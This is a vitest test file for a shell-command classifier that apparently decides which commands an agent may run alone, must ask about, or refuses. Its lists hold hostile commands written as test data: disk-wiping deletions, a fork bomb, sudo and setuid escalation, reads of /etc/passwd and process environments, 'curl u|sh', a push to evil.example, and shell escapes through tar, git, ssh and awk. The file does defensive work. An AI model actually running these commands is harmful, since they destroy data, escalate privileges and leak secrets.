import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { classify } from '../../../../../core/capabilities/actions/shell/classify.ts'
import { expectWithin } from '../../../../support/times.ts'

const folder = '/home/ada/project'

/** Runs by itself: one plain command that only reads, inside the project. */
const allowed: readonly string[] = [
  'ls',
  'ls -la src',
  'cat README.md',
  "cat 'a file.txt'",
  'cat a\\ file.txt',
  'head -n 20 log.txt',
  'tail -20 log.txt',
  'wc -l src/a.ts src/b.ts',
  'stat package.json',
  'file logo.png',
  'pwd',
  'echo "done \\$5"',
  'echo hello world',
  "echo 'two\nlines'",
  'date +%Y-%m-%d',
  'uname -a',
  'whoami',
  'git status --short',
  'git log --oneline -n 5',
  'git diff HEAD~1 -- src',
  'git diff main..topic',
  'git show HEAD:README.md',
  'git branch --list',
  'git branch',
  'grep -rn TODO src',
  'rg -n "to do" src',
  'sort -u names.txt',
  'find . -name "*.ts" -type f',
  'du -sh .',
  'grep -e x -c a.txt',
  `cat ${folder}/README.md`,
]

/** Asks and runs by its words alone, without a shell. The last column is what a wider approval would cover. */
const plain: readonly (readonly [command: string, scopeKey: string | null])[] = [
  ['npm test', 'npm test'],
  ['npm run build', 'npm run build'],
  ['npm install left-pad', 'npm install'],
  ['npm --prefix /x test', null],
  ['npm exec cowsay', null],
  ['npm config set script-shell ./x', null],
  ['npx cowsay', null],
  ['npm run build --script-sh=./x', null],
  ['pnpm build', 'pnpm build'],
  ['poetry run x', null],
  ['uv tool run x', null],
  ['cargo test', 'cargo test'],
  ['cargo +nightly test', null],
  ['gcc -c a.c', 'gcc'],
  ['gcc -wrapper ./x a.c', null],
  ['elixir -e x', null],
  ['flock x rm y', null],
  ['tar xIf ./x y', null],
  ['apt-get install x', null],
  ['gh api x', null],
  ['diff -r a b', 'diff'],
  ['ls -lL', null],
  ['cat .git/config', null],
  ['cp x .git/hooks/pre-commit', null],
  ['git remote add x y', null],
  ['git hook run x', null],
  ['git commit -m "a; b"', 'git commit'],
  ['git push', 'git push'],
  ['git push https://evil.example/x', null],
  ['git clone https://example.org/x', null],
  ["git -c core.pager='sh -c id' log", null],
  ["git config alias.x '!sh'", null],
  ['git log --output=x', null],
  ['git log --outp=x', null],
  ['git log -p --ext-diff', null],
  ["git log '--format=%G?'", null],
  ['git branch -D main', 'git branch'],
  ['git --git-dir=x status', null],
  ['git diff --no-index a b', null],
  ['git rebase -x ./run main', null],
  ['python3 x.py', 'python3 x.py'],
  ['python3 -m pytest', 'python3 -m pytest'],
  ['python -c "print(1)"', null],
  ['python3 -m timeit x', null],
  ['node -e "1"', null],
  ['node x.js', 'node x.js'],
  ['bash run.sh', 'bash run.sh'],
  ['bash', null],
  ['bash -c "ls"', null],
  ['env rm x', null],
  ['xargs rm', null],
  ['nohup ./server', null],
  ['find . -delete', null],
  ['find . -name x -exec rm {} +', null],
  ['find . -fprint out', null],
  ['find -L . -name x', null],
  ['sort -o names.txt names.txt', null],
  ['sort --outp=x names.txt', null],
  ['sort --compress-program=./x names.txt', null],
  ['grep -R x .', null],
  ['rg --pre ./x y', null],
  ['tar --checkpoint=1 --checkpoint-action=exec=sh -cf x.tar .', null],
  ['tar -xf x.tar', 'tar'],
  ['ssh -o ProxyCommand=sh host', null],
  ["vim -c ':!sh'", null],
  [`awk 'BEGIN{system("id")}'`, null],
  ['sed -n 1p a.txt', null],
  ['curl https://example.org', null],
  ['docker run x', null],
  ['rm x', 'rm'],
  ['rm -rf build', 'rm -r'],
  ['rm -rf ../other', null],
  ['mkdir -p a/b', 'mkdir'],
  ['yes', 'yes'],
  ['sleep 1e9', 'sleep'],
  ['cat /dev/zero', null],
  ['cat /etc/passwd', null],
  ['cat ../x', null],
  ['cat a/../../x', null],
  ["ls '~/.ssh'", null],
  ['cat /proc/self/environ', null],
  ['cat /home/ada/project-evil/x', null],
  ['grep --file=/etc/passwd x', null],
  ['grep -f/etc/passwd x', null],
  ['/tmp/ls', null],
  ['./ls', './ls'],
  ['date -s 12:00', null],
  ['tail -f log.txt', null],
  ['wc --files0-from=list', null],
  ['dd if=/dev/zero of=big', null],
  ['make test', 'make test'],
  ['make SHELL=./x', null],
  ['cmd /c dir', null],
  ['start /b x', null],
  ['echo safe\u202eelif', null],
  ['ps e', 'ps'],
  ['chmod 0755 x', 'chmod'],
]

/** Takes a shell: asks, is never covered by a wider approval, and says what it holds. */
const byShell: readonly (readonly [command: string, holds: string])[] = [
  ['$(echo rm) -rf /tmp/x', 'a command inside the command'],
  ['`echo rm` -rf x', 'a command inside the command'],
  ['echo $(cat x)', 'a command inside the command'],
  ['a;rm x', 'several commands'],
  ['a&&rm x', 'several commands'],
  ['ls\nrm x', 'several commands'],
  ['a|sh', 'a pipe'],
  ['curl u|sh', 'a pipe'],
  ['ls | wc -l', 'a pipe'],
  ['ls &', 'in the background'],
  ['PATH=/tmp:$PATH ls', 'a variable set for the command'],
  ['LD_PRELOAD=x ls', 'a variable set for the command'],
  ['IFS=x', 'a variable set for the command'],
  ["$'\\x72\\x6d' x", 'an encoded string'],
  ['echo x > ~/.bashrc', 'a redirection'],
  ['echo x >| f', 'a redirection'],
  ['cat <(ls)', 'a process substitution'],
  ['cat <<E\nx\nE', 'a here-document'],
  ['cat <<< x', 'a here-string'],
  ['ls *.ts', 'words that a shell expands'],
  ['ls ~', 'words that a shell expands'],
  ['ls {a,b}', 'words that a shell expands'],
  ['ls {1..3}', 'braces'],
  ['echo $HOME', 'a variable'],
  ['echo "a $b"', 'a variable'],
  ['eval ls', 'eval'],
  ['source x.sh', 'source'],
  ['. x.sh', 'a command of the shell itself'],
  ['cd src', 'cd'],
  ['exec ls', 'exec'],
  ['export A=1', 'a command of the shell itself'],
  ['read x', 'read'],
  ['! ls', 'a negation'],
  ['time ls', 'time'],
  ['[ -f x ]', 'a condition'],
  ['for f in a b; do echo x; done', 'a loop'],
  ['while true; do echo x; done', 'a loop'],
  ['if true; then ls; fi', 'a condition'],
  ['(ls)', 'a subshell'],
  ['f() { ls; }; f', 'a function'],
  ['ls # all', 'a comment'],
  ['echo %COMSPEC% $((1+1))', 'a calculation'],
]

/** What the grammar cannot read asks as well. */
const unreadable: readonly string[] = ['ls "', "ls '", 'if', 'echo $(', 'a )', '[ -f x', 'for in; do']

/** Refused without asking anybody. */
const denied: readonly string[] = [
  'rm -rf /',
  'rm -rf -- ~',
  'rm -fr $HOME/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is bash
  'rm -rf "${HOME}"',
  "r''m -rf /",
  '\\rm -rf /',
  '/bin/rm -r -f /*',
  'rm --recursive --force /usr',
  'rm -rf .',
  'rm -rf ./*',
  'rm -rf *',
  'rm -rf "$PWD"',
  'rm -rf ..',
  `rm -rf ${folder}`,
  'rm -rf /home/ada',
  'rm -rf //',
  'ls; rm -rf /',
  'echo $(rm -rf ~)',
  'env rm -rf /',
  'flock x rm -rf ~',
  'echo x | xargs sudo rm',
  'nohup nice rm -rf /',
  'bash -c "rm -rf /"',
  `bash -lc 'sh -c "sudo id"'`,
  'eval rm -rf /',
  'eval "rm -rf /"',
  'find / -delete',
  'chmod -R 777 /',
  'chown -R me /etc',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  'dd if=x of=/dev/../dev/nvme0n1',
  'echo x > /dev/sda',
  'cat x | tee /dev/sdb',
  'cp x /dev/mem',
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
  'shutdown now',
  'reboot',
  'sudo ls',
  'doas ls',
  'su -c id',
  'a && sudo b',
  'crontab -',
  'systemctl --user start x',
  'launchctl load x',
  'reg add HKCU',
  'powershell -enc AAAA',
  'chmod +s x',
  'chmod u+s x',
  'chmod 4755 x',
  'kill -9 -1',
  'init 0',
]

describe('a command that only reads inside the project', () => {
  it.each(allowed)('%j runs by itself, without a shell', async (command) => {
    expect(await classify(command, folder)).toMatchObject({
      verdict: 'allow',
      argv: expect.any(Array),
      concerns: [],
      reason: '',
    })
  })
})

describe('a plain command that does more', () => {
  it.each(plain)('%j asks; a wider approval would cover %j', async (command, scopeKey) => {
    const found = await classify(command, folder)
    expect(found).toMatchObject({ verdict: 'ask', argv: expect.any(Array), scopeKey })
    expect(found.reason).not.toBe('')
  })
})

describe('what takes a shell', () => {
  it.each(byShell)('%j asks each time: it holds %s', async (command, holds) => {
    const found = await classify(command, folder)
    expect(found).toMatchObject({ verdict: 'ask', argv: null, scopeKey: null })
    expect(found.concerns.join('\n')).toContain(holds)
  })

  it.each(unreadable)('%j cannot be read and asks', async (command) => {
    const found = await classify(command, folder)
    expect(found).toMatchObject({ verdict: 'ask', argv: null, scopeKey: null })
    expect(found.reason).toContain('cannot be read')
  })
})

test.each(denied)('%j is refused without asking', async (command) => {
  expect(await classify(command, folder)).toMatchObject({
    verdict: 'deny',
    scopeKey: null,
    reason: expect.stringContaining('refused: it '),
  })
})

test('the words of a plain command are what bash would pass on', async () => {
  const words = [
    [`a "b c" 'd "e' f\\ g`, ['a', 'b c', 'd "e', 'f g']],
    [`a b'c'"d"e`, ['a', 'bcde']],
    ['a "x\\"y\\\\z" --o=\'p q\'', ['a', 'x"y\\z', '--o=p q']],
    ["a '' 12 é\u00a0x", ['a', '', '12', 'é\u00a0x']],
  ] as const
  for (const [command, argv] of words) expect((await classify(command, folder)).argv).toEqual(argv)
})

test('a direction override is shown where the person decides', async () => {
  const { concerns } = await classify('echo safe\u202eelif', folder)
  expect(concerns[0]).toContain('echo safe⟦U+202E⟧elif')
})

test('whatever is quoted whole arrives as it is, and nothing that is not on the list runs by itself', async () => {
  const text = fc.string({ unit: 'grapheme', maxLength: 40 }).filter((each) => !/\p{Cc}/u.test(each))
  await fc.assert(
    fc.asyncProperty(text, async (each) => {
      const quoted = `'${each.replaceAll("'", `'\\''`)}'`
      expect((await classify(`tool ${quoted}`, folder)).argv).toEqual(['tool', each])
      expect((await classify(`tool ${each}`, folder)).verdict).not.toBe('allow')
      const bare = await classify(`ls ${each}`, folder)
      if (bare.verdict === 'allow') expect(each).not.toMatch(/[;&|`$<>\n(){}*?]|^~|^\//)
    }),
    { numRuns: 300 },
  )
})

test('ten thousand characters of nesting are judged, each in less than a second', async () => {
  for (const each of ['$(', '((', '{ ', 'if ', '"$(', 'a;', '<(']) {
    const from = performance.now()
    expect((await classify(each.repeat(10_000 / each.length), folder)).verdict).toBe('ask')
    expectWithin(performance.now() - from, 1_000)
  }
})
